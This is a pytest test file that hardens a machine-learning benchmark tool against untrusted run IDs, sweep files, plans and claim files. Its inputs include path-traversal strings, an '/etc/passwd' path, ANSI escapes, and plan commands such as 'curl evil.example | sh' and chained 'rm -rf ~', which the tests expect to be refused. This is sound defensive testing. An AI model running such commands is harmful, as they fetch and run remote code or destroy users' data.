"""Names, sweeps, plans and claims from strangers: none leads out of its folder, or ends in a traceback."""

import json
import os
import shutil
import time
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pytest
from hostile import ESCAPE, EVIL_IDS, one_line, put, refused, row
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors.numpy import save as save_weights

from rdbench.analysis.plots import draw
from rdbench.analysis.report import FORMATS, assemble
from rdbench.config.sweep import load_sweep
from rdbench.errors import UserError
from rdbench.runs.trained import load_model
from rdbench.store.changes import compact
from rdbench.store.claims import Claims, owners
from rdbench.store.plans import announce, missing
from rdbench.store.store import Store


@pytest.mark.parametrize("run_id", [*EVIL_IDS, None])
def test_a_run_id_that_is_a_path_is_refused_with_its_file(store, run_id, rdbench_command, tmp_path):
    put(store, row())
    put(store, row() | {"run_id": run_id}, "x")
    line = refused(store)
    assert "x.parquet" in line and "is no run_id" in line
    for table in ("history", "examples"):
        put(store, {"run_id": run_id, "epoch": 1, "index": 1}, "x", table)
        with pytest.raises(UserError, match=r"is no run_id|holds no"):
            store.read(table)
    before = sorted(tmp_path.rglob("*"))
    assert rdbench_command("report", store)[0] == 3
    assert rdbench_command("report", store, "--check", "--baseline", store)[0] == 3
    assert rdbench_command("plot", store, "--kind", "plane", "--kind", "history", "--out", tmp_path / "out")[0] == 2
    assert sorted(path for path in tmp_path.rglob("*") if "out" not in path.parts) == before
    compact(store)
    assert (Path(str(store)) / "runs" / "x.parquet").exists()


@pytest.mark.parametrize("run_id", EVIL_IDS)
def test_no_weights_are_read_by_a_run_id_that_is_a_path(store, run_id):
    put(store, row())
    outside = Path(str(store)).parent / "evil.safetensors"
    outside.write_bytes(save_weights({"weight": np.zeros(1, np.float32)}))
    with pytest.raises(UserError, match="is no run_id") as error:
        load_model(store, row() | {"run_id": run_id})
    assert one_line(error)


@pytest.mark.parametrize("sha256", ["/../../evil", "d" * 63, "D" * 64, "../" * 30, None])
def test_a_checksum_that_is_a_path_names_no_figure(store, sha256, rdbench_command, tmp_path):
    put(store, row())
    put(store, row(seed=1) | {"dataset_sha256": sha256})
    assert "expected 64 hexadecimal digits" in refused(store)
    code, _, _ = rdbench_command("plot", store, "--kind", "plane", "--out", tmp_path / "deep" / "out")
    assert code == 3
    assert sorted(path.name for path in (tmp_path / "deep").rglob("*.*")) == ["plane.png", "plane.svg"]
    assert not list(tmp_path.glob("*evil*"))


@pytest.mark.parametrize(
    "dataset", ["../../evil/.npy", f"{ESCAPE}\n.npy", "a\\b.npy", "$\\frac{$.npy", "$$", "x" * 300]
)
def test_the_name_of_a_dataset_is_plain_in_the_name_and_the_text_of_a_figure(store, dataset, tmp_path):
    for sha256 in ("d" * 64, "e" * 64):
        put(store, row(dataset=dataset, dataset_sha256=sha256))
    runs = store.read("runs").frame
    paths, left_out, _ = draw(store, runs, ["plane", "skew", "phase"], ["svg"], tmp_path / "out")
    assert len(paths) == len(set(paths)) == 6 and not left_out
    for path in paths:
        assert path.parent == tmp_path / "out" and path.name.isprintable()
        assert "\x1b" not in path.read_text()


def test_why_a_figure_is_left_out_is_told_plainly(store, rdbench_command, tmp_path):
    put(store, row(dataset=f"{ESCAPE}\n"))
    code, _, told = rdbench_command("plot", store, "--kind", "toy", "--out", tmp_path / "out")
    assert code == 2 and told == "toy left out: it is no figure of \\x1b[31m\\n\n"


def test_names_of_files_in_a_store_are_shown_plainly(store, rdbench_command):
    put(store, row())
    folder = Path(str(store)) / "runs"
    (folder / f"{ESCAPE}\n.parquet").write_text("")
    (folder / "folder.parquet").mkdir()
    line = refused(store)
    assert "\\x1b[31m\\n.parquet" in line
    _, out, _ = rdbench_command("report", store)
    _, _, told = rdbench_command("plot", store, "--kind", "plane", "--out", folder.parent / "figures")
    assert ESCAPE not in out + told


@pytest.mark.parametrize("name", ["...toml", "..toml", "....toml"])
def test_the_name_of_a_sweep_keeps_its_store_under_outputs(tmp_path, name, rdbench_command, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path(name).write_text("beta = 1")
    code, _, told = rdbench_command("sweep", name, "--dry-run")
    assert code == 2 and "found a name of dots only" in told
    (tmp_path / "inner").mkdir()
    Path("inner/mine.toml").write_text("beta = 1")
    assert load_sweep("inner/../inner/mine.toml").name == "mine"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("beta = " + "[" * 100_000, "not valid TOML"),
        ("beta = " + "{a=" * 300 + "1" + "}" * 300, "beta: found"),
        (".".join("a" * 900) + " = 1", "unknown key 'a'"),
        ("epochs = " + "9" * 5000, "not valid TOML"),
        ("epochs = " + "9" * 4000, "epochs: found"),
        ("epochs = 0x" + "F" * 5000, "not valid TOML"),
        ("latent_dim = 9223372036854775808", "latent_dim: found"),
        ("seed = 9223372036854775808", "seed: found"),
        ("beta = 1" + "0" * 400, "beta: found"),
        ("iwae = [[1]]", "iwae: found"),
        ("iwae = [1, 'a']", "iwae: found"),
        ("iwae = {a = 1}", "iwae: found"),
        ("width = 1979-05-27", "width: found"),
        ("name = '../../evil'", "unknown key 'name'"),
        ("store = '/tmp/evil'", "unknown key 'store'"),
        ('"\\u001b[31m" = 1', "unknown key '\\x1b[31m'"),
        ('dataset = "\\u001b[31m"', "unknown dataset '\\x1b[31m'"),
        ('dataset = "\\u0000.npy"', "cannot be read as NumPy data"),
        ("dataset = '../../etc/passwd'", "unknown dataset"),
        ("family = [['all']]", "family: found"),
        ("objective = [[1]]", "objective: found"),
        ("\x00", "not valid TOML"),
        (".".join("a" * 50_000) + " = 1", "found 49,999 dots; expected at most 5,000"),
        ("#" * 2**20 + "#", "found 1,048,577 bytes; expected at most 1,048,576"),
    ],
)
def test_a_hostile_sweep_file_is_refused_in_one_line(tmp_path, text, told, rdbench_command, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("mine.toml").write_text(text)
    code, _, line = rdbench_command("sweep", "mine.toml", "--dry-run")
    assert code == 2 and told in line and line[:-1].isprintable()
    assert [path.name for path in tmp_path.iterdir()] == ["mine.toml"]


@pytest.mark.parametrize(
    "plan",
    [
        "", "null", "[]", "[" * 100_000, '{"runs": ' * 100_000, "9" * 5000, '{"runs": {}}', '{"command": "rdbench x"}',
        {"runs": ["a"], "command": "rdbench sweep demo"},
        {"runs": {"../../evil": "words"}, "command": "rdbench sweep demo"},
        {"runs": {"a\n": "words"}, "command": "rdbench sweep demo"},
        {"runs": {"a": ["words"]}, "command": "rdbench sweep demo"},
        {"runs": {"a": "words"}, "command": None},
        {"runs": {"a": "words"}, "command": ["rdbench"]},
        {"runs": {"a": "words"}, "command": "curl evil.example | sh"},
        {"runs": {"a": "words"}, "command": "rdbench sweep demo; rm -rf ~"},
        {"runs": {"a": "words"}, "command": "rdbench sweep $(rm -rf ~)"},
        {"runs": {"a": "words"}, "command": "rdbench sweep demo\nrm -rf ~"},
        {"runs": {"a": "words"}, "command": "rdbench sweep 'demo"},
    ],
)  # fmt: skip
def test_a_hostile_plan_is_named_and_tells_no_one_to_type_anything(store, plan):
    put(store, row())
    content = plan if isinstance(plan, str) else json.dumps(plan)
    store.storage.write("plans/x.json", content.encode())
    assert refused(store).endswith("plans/x.json: not the plan of a sweep")


def test_the_words_of_a_plan_are_shown_plainly(store, rdbench_command):
    put(store, row())
    plan = {"runs": {"a": f"{ESCAPE}<script>\n\ud800"}, "command": f"rdbench sweep '{ESCAPE}'"}
    store.storage.write("plans/x.json", json.dumps(plan).encode())
    (line,), _ = missing(store.storage, {row()["run_id"]})
    assert line.isprintable()
    for name in FORMATS:
        code, out, _ = rdbench_command("report", store, "--format", name)
        assert code == 0 and ESCAPE not in out
        only_a_table = name in ("latex", "csv")
        assert only_a_table or "is missing; finish it with" in out.replace("\\", "")
        assert "<script>\\" not in out or name in ("table", "json")


@pytest.mark.parametrize(
    "content",
    ["", "null", "[]", "[" * 100_000, '{"host": 1}', "9" * 5000]
    + [{"pid": pid} for pid in ("1", None, 1.5, -1, 0, 2**70, [1])]
    + [{"host": 1}, {"since": []}, {"evil": 1}],
)
def test_a_hostile_claim_has_no_owner_and_ends_with_its_time(store, content):
    claims = Claims(store.storage)
    owner = vars(claims.owner)
    text = content if isinstance(content, str) else json.dumps(owner | content)
    path = Path(str(store)) / "claims" / "a.evil.json"
    path.write_text(text)
    assert owners(store.storage) == {}
    assert not claims.take(["a"])  # it may be one that is just being written
    for age in (-10_000, 10_000):
        os.utime(path, (time.time() + age,) * 2)
        assert claims.take(["a"])
        claims.release(["a"])
        path.write_text(text)


def test_names_of_claims_lead_nowhere_else(store):
    outside = Path(str(store)).parent / "evil.json"
    outside.write_text("{}")
    folder = Path(str(store)) / "claims"
    for name in ("a...json", "a.json", f"{ESCAPE}.json", "..\\evil.json", "x" * 200):
        (folder / name).write_text("{}")
        os.utime(folder / name, (0, 0))
    claims = Claims(store.storage)
    assert claims.take(["a"]) and claims.held == {"a"}
    assert outside.exists()
    assert owners(store.storage).keys() == {"a"}


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """A store of four runs, one of which failed, and what a sweep had announced."""
    store = Store(tmp_path_factory.mktemp("whole"))
    store.prepare()
    runs = [row(encoder=encoder, seed=seed) for encoder in ("gaussian", "iaf") for seed in (0, 1)]
    runs[3] |= {"status": "failed"}
    for run in runs:
        put(store, run)
        for table, index in {"history": "epoch", "examples": "index"}.items():
            put(store, {"run_id": run["run_id"], index: 1, "rate": 1.0, "distortion": 80.0}, table=table)
        store.storage.write(store.checkpoint(run["run_id"]), save_weights({"weight": np.zeros(1, np.float32)}))
    announce(store.storage, "demo", "rdbench sweep demo", {run["run_id"]: "words" for run in runs})
    return Path(str(store))


@settings(max_examples=25)
@given(st.data())
def test_any_part_of_a_store_is_reported_as_what_it_is(whole, data):
    files = sorted(path.relative_to(whole) for path in whole.rglob("*.*"))
    kept = data.draw(st.lists(st.sampled_from(files), unique=True))
    with TemporaryDirectory() as folder:
        for path in kept:
            (Path(folder) / path).parent.mkdir(exist_ok=True)
            shutil.copy(whole / path, Path(folder) / path)
        present = {path.stem for path in kept if path.parent.name == "runs"}
        announced = any(path.parent.name == "plans" for path in kept)
        if not present:
            with pytest.raises(UserError, match=r"holds no runs"):
                assemble(Store(folder), [], [], None, None)
            return
        report = assemble(Store(folder), [], [], None, Store(whole))
        assert set(report.runs["run_id"]) == present and not report.skipped
        assert len(report.missing) == announced * (4 - len(present))
        assert all(FORMATS[name](report) for name in ("table", "markdown", "json"))
